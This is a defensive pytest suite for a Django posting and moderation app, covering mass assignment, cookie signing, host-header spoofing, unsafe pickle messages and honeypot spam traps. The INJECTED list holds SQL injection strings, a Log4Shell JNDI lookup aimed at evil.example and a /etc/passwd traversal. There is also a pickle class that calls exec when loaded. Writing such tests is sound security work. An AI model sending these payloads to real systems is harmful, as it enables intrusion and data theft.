"""What programs send that no form of ours would."""

import pickle
from typing import Any
from uuid import uuid4

import pytest
from celery import current_app
from django.core import signing
from django.test import Client
from kombu import Connection
from kombu.exceptions import ContentDisallowed

from comments import services as comments
from comments.models import Comment
from moderation.models import Review
from posts.models import Post
from tests.calls import send
from tests.histories import settle
from tests.pages import Page, get
from tests.people import browser_of
from tests.records import on_record
from web.forms import HONEYPOT_FIELD
from web.readers import COOKIE

pytestmark = pytest.mark.django_db(transaction=True, databases="__all__")

stored = pytest.mark.django_db(transaction=True, databases="__all__")

MORE = {
    "id": str(uuid4()),
    "pk": str(uuid4()),
    "post_id": str(uuid4()),
    "comment_id": str(uuid4()),
    "status": "approved",
    "created_at": "1999-12-31T00:00:00Z",
    "version": 99,
    "decided_by": "nobody",
    "is_staff": True,
}
"""What nobody sets by hand."""


def changed(row: Any) -> set[str]:
    return {name for name, value in MORE.items() if str(getattr(row, name, None)) == str(value)}


@stored
@pytest.mark.parametrize("form", [False, True], ids=["api", "form"])
@pytest.mark.parametrize("kind", ["anonymous", "superuser"])
def test_read_only_fields_cannot_be_set(post: Post, kind: str, form: bool) -> None:
    browser = browser_of(kind)
    there = f"posts/{post.id}/comments/"
    for address, body in (("posts/", {"title": "B", "body": "B"}), (there, {"content": "A"})):
        if form:
            assert browser.post(f"/{address}", {**MORE, **body}).status_code == 302
        else:
            assert send(browser, "POST", f"/api/{address}", {**MORE, **body}).status_code == 201

    new = Post.objects.exclude(id=post.id).get()
    comment = Comment.objects.get()
    assert changed(new) == changed(comment) == set()
    assert (comment.post_id, comment.status, new.version) == (post.id, "pending", 1)


@stored
def test_a_change_and_a_decision_change_nothing_else(post: Post) -> None:
    comments.create_comment(post.id, "Ann", "A kind word")
    settle()
    browser, review = browser_of("superuser"), Review.objects.get()

    assert (
        send(browser, "PATCH", f"/api/posts/{post.id}/", {**MORE, "title": "B"}).status_code == 200
    )
    address = f"/api/moderation/reviews/{review.pk}/reject/"
    assert send(browser, "POST", address, {**MORE, "content": "Other words"}).status_code == 200

    post.refresh_from_db()
    review.refresh_from_db()
    assert (post.title, post.version) == ("B", 2)
    assert changed(post) == changed(review) == set()
    assert (review.status, review.decided_by) == ("rejected", "superuser")
    assert review.content == "A kind word"


@stored
def test_a_cookie_signed_for_something_else_is_none_of_ours(client: Client, post: Post) -> None:
    comment = comments.create_comment(post.id, "Ann", "Nobody shall read this")
    client.cookies[COOKIE] = signing.dumps([comment.id.hex], salt="django.contrib.messages")

    address = f"/api/comments/{comment.id}/"
    assert client.get(address).json()["content"] == ""
    client.cookies[COOKIE] = signing.dumps([comment.id.hex], salt=COOKIE)
    assert client.get(address).json()["content"] != ""


INJECTED = [
    "' OR '1'='1",
    "'; DROP TABLE posts_post; --",
    "1) UNION SELECT password FROM auth_user --",
    '" OR ""="',
    "%' OR 1=1 --",
    "${jndi:ldap://evil.example}",
    "../../../../etc/passwd",
]


@stored
def test_a_filter_is_a_value_and_no_query(post: Post) -> None:
    comments.create_comment(post.id, "Ann", "A kind word")
    settle()
    browser = browser_of("superuser")
    before = on_record()
    names = ("page", "comment", "min_position", "cursor", "limit", "after", "type", "status")
    lists = ["/", f"/posts/{post.slug}/", "/api/posts/", "/api/comments/", "/api/query/posts/"]
    lists += ["/api/moderation/reviews/", "/api/events/"]
    for address in lists:
        for name in (*names, "post_id", "decided_by", "ordering", "search"):
            for value in INJECTED:
                response = browser.get(address, {name: value})
                assert response.status_code in (200, 400), (address, name)
                if name == "decided_by" and address == "/api/moderation/reviews/":
                    assert response.json()["results"] == []
    assert on_record() == before


@stored
@pytest.mark.parametrize(
    "header", ["x-forwarded-host", "x-host", "x-original-url", "x-rewrite-url", "forwarded"]
)
def test_no_header_but_host_names_our_origin(client: Client, post: Post, header: str) -> None:
    sent = {header: "host=evil.example" if header == "forwarded" else "evil.example"}
    for _ in range(2):
        client.post("/api/posts/", {"title": "A", "body": "B"}, "application/json")
    for address in ("/", "/api/posts/?limit=1", "/admin/", "/api/posts", "/api/docs/", "/nowhere"):
        response = client.get(address, headers=sent)
        assert "evil" not in response.text
        assert "evil" not in str(response.headers)


class Evil:
    def __reduce__(self) -> Any:
        return exec, ("raise SystemExit('it ran')",)


def test_a_worker_reads_no_message_that_runs_when_it_is_read() -> None:
    assert set(current_app.conf.accept_content) == {"json"}
    assert set(current_app.conf.result_accept_content) == {"json"}
    with Connection("memory://") as broker:
        queue = broker.SimpleQueue("evil")
        queue.producer.publish(
            pickle.dumps(Evil()),
            routing_key="evil",
            content_type="application/x-python-serialize",
            content_encoding="binary",
        )
        message = queue.queue(broker.channel()).get(accept=current_app.conf.accept_content)
        assert message is not None
        with pytest.raises(ContentDisallowed):
            message.decode()


FORMS = {
    "/posts/": {"title": "A title", "body": "What took\n\nan hour"},
    "/posts/{}/comments/": {"content": "What took\n\nan hour", "author": "Ann"},
}


@pytest.mark.parametrize("address", FORMS)
def test_who_fills_it_is_refused_and_loses_nothing(
    client: Client, post: Post, address: str
) -> None:
    there, typed = address.format(post.id), FORMS[address]
    before = on_record()

    response = client.post(there, {**typed, HONEYPOT_FIELD: "https://cheap.example"})

    assert response.status_code == 400
    assert on_record() == before
    page = Page(response.text)
    assert "not saved yet" in page.text
    assert "A hidden field was filled in" in page.text
    for name, value in typed.items():
        [field] = [e for e in page.elements if e.attributes.get("name") == name]
        assert value in (field.attributes.get("value"), "".join(field.raw).strip())
    # A person whose browser did it sends the form once more.
    assert page.find("input", name=HONEYPOT_FIELD).attributes["value"] == ""
    assert "cheap.example" not in page.html
    assert client.post(there, {**typed, HONEYPOT_FIELD: ""}).status_code == 302
    assert client.post(there, typed).status_code == 302


def test_it_is_on_every_form_and_out_of_everybodys_way(client: Client, post: Post) -> None:
    for address in ("/", f"/posts/{post.id}/"):
        page = get(client, address)
        traps = page.all("input", name=HONEYPOT_FIELD)
        assert len(traps) == len(page.all("form", method="post"))
        for trap in traps:
            assert trap.attributes["tabindex"] == "-1"
            assert trap.attributes["autocomplete"] == "off"
            assert "required" not in trap.attributes
            page.find("label", **{"for": trap.attributes["id"]})
        assert len({trap.attributes["id"] for trap in traps}) == len(traps)
        assert len(page.all("div", **{"aria-hidden": "true"})) == len(traps)


def test_the_api_takes_what_it_knows(client: Client) -> None:
    body = {"title": "A title", "body": "A body", HONEYPOT_FIELD: "https://cheap.example"}
    response = client.post("/api/posts/", body, content_type="application/json")

    assert response.status_code == 201
    assert HONEYPOT_FIELD not in response.json()
